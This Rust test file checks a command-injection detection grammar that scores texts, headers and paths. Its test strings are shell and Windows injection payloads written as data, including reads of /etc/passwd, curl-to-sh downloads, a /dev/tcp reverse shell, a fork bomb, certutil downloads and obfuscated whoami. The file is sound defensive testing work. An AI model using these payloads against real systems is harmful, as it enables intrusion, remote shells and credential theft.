//! Commands with the words of the standard vocabulary: what must be read, how surely, and what must not.

#![allow(clippy::unwrap_used, reason = "a test may stop where it stands")]

use std::sync::Arc;

use patterns::grammar::Grammar;
use patterns::{How, Part};
use proptest::prelude::*;

/// The grammar of commands, as the program's own rules use it.
fn grammar() -> Arc<dyn Grammar> {
    let path = "rules/patterns/command_injection.yml";
    let text = include_str!("../../../rules/patterns/command_injection.yml");
    let loaded = rules::load([(path, text)], &rules::Terms::default());
    let pack = loaded.set.rules.iter().find_map(|rule| rule.pack.clone()).unwrap();
    let pattern = pack.patterns.iter().find(|pattern| pattern.id == "cmd-command").unwrap();
    let How::Grammar(grammar) = &pattern.how else { unreachable!("the pattern has a grammar") };
    Arc::clone(grammar)
}

/// Points of a text, as long as something in it nominates the grammar.
fn points(grammar: &dyn Grammar, needs: &[String], text: &str, part: Part) -> u32 {
    if !needs.iter().any(|need| text.contains(need.as_str())) {
        return 0;
    }
    grammar.read(text, part).map_or(0, |read| read.points)
}

fn assert_points(part: Part, texts: &[&str], wanted: std::ops::RangeInclusive<u32>) {
    let grammar = grammar();
    let needs = grammar.needs();
    for text in texts {
        let found = points(&*grammar, &needs, text, part);
        assert!(wanted.contains(&found), "{text}: {found}, {:?}", grammar.read(text, part));
    }
}

#[test]
fn what_only_a_shell_runs_is_sure() {
    let texts = [
        "nohup nslookup x.example",
        ";u$@na$zme -a",
        "{wget,x.example/a}",
        "{,id,}",
        "c{a,oun}t",
        "sort <<< hostname",
        "cat /etc/[h]osts",
        "/etc/pas[s]wd",
        "/???/c?t /???/p??s??",
        "bin/busybox httpd -p 9000",
        "alias q=wget;q x.example/a",
        "x=cat;$x /etc/hosts",
        "a=c;b=at;$a$b /etc/passwd",
        "127.0.0.1;id",
        "127.0.0.1 && cat /etc/passwd",
        "a\" && id && \"",
        "';id;'",
        "`id`",
        "$(cat /etc/passwd)",
        "a;w'h'o'am'i",
        "a;wh``oami",
        "cat$ifs/etc/passwd",
        "$'\\x63at' /etc/passwd",
        "cat$u /etc$u/passwd$u",
        "env x=1 wget x.example",
        "echo aWQ= | base64 -d | bash",
        "curl x.example/a|sh",
        ";while true;do id;done",
        "for i in a b; do wget x.example/$i; done",
        ";$0<<<id",
        ":(){ :|:& };:",
        "bash -i >& /dev/tcp/192.0.2.1/44 0>&1",
        "python3 -c 'import os'",
        "| id\n",
        "x\ncat /etc/hosts",
    ];
    assert_points(Part::Value, &texts, 5..=5);
}

#[test]
fn what_windows_runs_is_sure() {
    let texts = [
        "for /l %n in (1,1,5) do ping host%n",
        "for /f \"tokens=*\" %a in ('whoami') do echo %a",
        "if %userdomain% neq corp whoami",
        "if exist c:\\x.txt del c:\\x.txt",
        "if /i a==a dir c:\\",
        "x&w^h^o^ami",
        "%comspec% /c dir",
        "cmd /c whoami",
        "%path:~3,1%",
        "net user bob /add",
        "certutil -urlcache -f http://x.example/a a.exe",
        "powershell -nop -w hidden -c \"x\"",
        ";iwr http://x.example/a.ps1",
        "get-childitem -path c:\\",
        "&('ie'+'x')",
        "i`e`x $a",
        "[system.convert]::frombase64string($a)",
        "ls | iex",
    ];
    assert_points(Part::Value, &texts, 5..=5);
}

#[test]
fn what_people_look_up_is_not_sure() {
    let texts = [
        "git push --force",
        "docker run -it ubuntu bash",
        "curl -x post https://api.example.org/v1",
        "chmod 777 /var/www",
        "ls -la",
        "ps aux | grep java",
        "netstat -an | find \"80\"",
        "how to use `ls -la`",
        "tar -xzvf file.tar.gz",
        "sudo apt update",
        "get-process",
        "net user guide",
        "if x equ y",
        "traceroute 192.0.2.1",
        "cat -stevens",
        "select `id` from `users` where `date` > 5; ",
        "rate(x[5m]) | sort",
        "bash|zsh|fish",
    ];
    assert_points(Part::Value, &texts, 0..=4);
}

#[test]
fn words_are_no_commands() {
    let texts = [
        "bash away in the gym",
        "curl and divergence",
        "diy$ambo",
        "if not now when",
        "for 100% in total",
        "time after time",
        "find your way",
        "host a party",
        "cat & dog",
        "sort by price",
        "rock & roll",
        "r&d; tests",
        "make love; not war",
        "head over heels; tail between legs",
        "salt & pepper; make at home",
        "id|name|size",
        "date|time|host",
        "{id,name,time}",
        "{ user(id: 1) { id, name, date } }",
        "home > shop > cat",
        "c:\\program files\\git\\bin\\bash.exe",
        "/usr/share/doc/bash",
        "/bin/sh",
        "http://shop.example/?a=1&id=2&sort",
        "$(document).ready",
        "$(id).hide()",
        "${user.name}",
        "what???/really",
        "who's who",
        "time:10;date:5",
        "50% off & 20% more",
        "start a business",
        "set-top box",
        "add-on; remove-ads",
        "call of duty",
        "project = abc and status in (open) order by created desc",
        "index=main error | head 10 | sort - count",
        "{app=\"web\"} |= \"error\" | json",
    ];
    assert_points(Part::Value, &texts, 0..=2);
}

#[test]
fn headers_name_programs_without_running_them() {
    let benign = [
        "mozilla/5.0 (x11; linux x86_64; rv:140.0) gecko/20100101 firefox/140.0",
        "curl/8.5.0",
        "wget/1.21 (linux-gnu)",
        "tool (a; wget; b) time 5",
        "git/2.40.0; linux",
        "chef client/18 (ruby-3.1; x86_64-linux; +http://chef.example)",
        "python 3.11 http://x.example",
    ];
    assert_points(Part::Text, &benign, 0..=2);
    assert_points(Part::Text, &["nohup ifconfig", ";id", "x=nc&&$x -nlvp 5555", ";`cat<<<ifconfig`"], 4..=5);
}

#[test]
fn a_path_is_read_behind_separators_only() {
    assert_points(Part::Path, &["/cgi-bin/x;wget 192.0.2.1/a", "/a/$(id)"], 5..=5);
    assert_points(Part::Path, &["/a;jsessionid=5", "/find -x", "/rock&roll", "/a&cd", "/list;sort=asc/x"], 0..=2);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_read_without_harm(
        text in "([a-z '\"\\\\$({})`|;<>?*\\[\\]&%^/.,=+\n-]|é|id|wget |cat |for |if |\\$\\(|[$]\\{|-join|powershell |get-item ){0,40}",
    ) {
        thread_local! {
            static GRAMMAR: Arc<dyn Grammar> = grammar();
        }
        GRAMMAR.with(|grammar| {
            for part in Part::ALL {
                let points = grammar.read(&text, part).map_or(1, |read| read.points);
                prop_assert!((1..=5).contains(&points), "{text}");
            }
            Ok(())
        })?;
    }
}
